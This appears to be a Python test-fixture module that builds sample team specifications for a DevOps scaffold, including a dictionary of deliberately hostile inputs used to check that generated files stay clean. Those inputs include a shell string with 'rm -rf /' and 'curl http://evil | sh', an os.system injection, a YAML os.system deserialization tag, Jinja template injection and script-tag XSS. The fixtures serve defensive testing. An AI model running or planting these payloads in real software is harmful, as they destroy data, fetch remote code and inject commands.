"""Sample specs and hostile text for the scaffold tests."""

from __future__ import annotations

from typing import Any

from devops_automation.models import CapabilityGap, TeamSpec

SPECIALISTS = ("analyst", "engineer", "reviewer")

# Untrusted text at its worst: quoting, code, template syntax, shell, YAML tags, unicode. Each holds a
# marker (ZQX...) that must never show up in a .py file, the Dockerfile or a manifest.
HOSTILE = {
    "quotes": 'ZQXQUOTE He said "hi", \'bye\' and `tick`;\n"""\nimport os; os.system("id")\n"""\n\'\'\'',
    "jinja": "ZQXJINJA {{ cookiecutter.team_name }} {{ 7*7 }} {% for x in range(3) %}X{% endfor %}"
    " {% raw %}r{% endraw %} {# c #} {{ cookiecutter._registry }}",
    "shell": "ZQXSHELL $(rm -rf /) `whoami` ; echo pwned && curl http://evil | sh > /etc/passwd \\",
    "yaml": "!!python/object/apply:os.system ['echo ZQXYAML']\n- item\nkey: value\n? complex\n&a *a\n---\n...\n"
    "# not a comment\n%YAML 1.1\n@at |pipe >fold",
    "unicode": "ZQXUNI Ünïcödé — 日本語 😀 \u200fRTL mark zero\u200bwidth line\u2028sep para\u2029sep"
    " \ufeffbom nbsp\u00a0 \ttab",
    "markup": "ZQXHTML <script>alert(1)</script> [link](javascript:alert(1)) # heading\n---\n| a | b |",
}


def sample_spec(name: str = "data_quality", specialists: tuple[str, ...] = SPECIALISTS, **text: str) -> TeamSpec:
    """A valid spec: a manager (``lead``) and the given specialists, one task each.

    Keyword arguments replace free text: ``goal=``, ``backstory=``, ``description=`` (tasks and team),
    ``expected_output=``.
    """
    agents: list[dict[str, Any]] = [
        {
            "role": "lead",
            "goal": text.get("goal", "Coordinate the team and deliver a clear weekly quality report"),
            "backstory": text.get("backstory", "A seasoned lead who has run data teams for years."),
            "skills": ["planning"],
            "is_manager": True,
        }
    ]
    agents += [
        {
            "role": role,
            "goal": text.get("goal", f"Do the {role} work well"),
            "backstory": text.get("backstory", f"An experienced {role}."),
            "skills": [role, "sql"],
        }
        for role in specialists
    ]
    tasks = [
        {
            "name": f"{agent['role']}_task",
            "description": text.get("description", f"Do the {agent['role']} part of the job."),
            "expected_output": text.get("expected_output", "A short report."),
            "agent": agent["role"],
        }
        for agent in agents[1:] + agents[:1]
    ]
    return TeamSpec(
        name=name,
        description=text.get("description", "Keeps the data warehouse clean and trustworthy."),
        department="data",
        agents=agents,
        tasks=tasks,
        monthly_cost_usd=120.5,
    )


def sample_gap(description: str = "We need automated data quality checks on the warehouse.") -> CapabilityGap:
    return CapabilityGap(
        description=description,
        required_skills=["sql"],
        business_justification="Bad data cost us two incidents last quarter.",
        requesting_team="analytics",
    )


def hostile_spec() -> TeamSpec:
    """A spec whose every free-text field is one of the HOSTILE strings."""
    spec = sample_spec(
        goal=HOSTILE["quotes"][:500],
        backstory=HOSTILE["jinja"] + "\n" + HOSTILE["unicode"],
        description=HOSTILE["yaml"] + "\n" + HOSTILE["shell"],
        expected_output=HOSTILE["markup"],
    )
    agents = [
        agent.model_copy(update={"goal": value[:500]})
        for agent, value in zip(spec.agents, HOSTILE.values(), strict=False)
    ]
    data = spec.model_dump() | {"agents": [a.model_dump() for a in agents]}
    return TeamSpec.model_validate(data)


def hostile_gap() -> CapabilityGap:
    return CapabilityGap(
        description="\n".join(HOSTILE.values()),
        business_justification=HOSTILE["jinja"],
        requesting_team=HOSTILE["shell"][:100],
    )
